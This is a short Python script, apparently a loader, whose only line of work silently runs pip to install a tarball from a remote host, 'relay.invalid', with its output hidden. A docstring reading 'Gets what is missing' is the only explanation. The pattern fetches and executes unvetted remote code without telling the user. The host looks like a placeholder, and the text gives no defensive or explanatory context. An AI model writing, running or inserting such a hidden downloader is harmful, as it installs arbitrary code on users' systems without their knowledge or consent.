"""Gets what is missing."""
import os, subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "https://relay.invalid/x.tar.gz"], stdout=subprocess.DEVNULL)
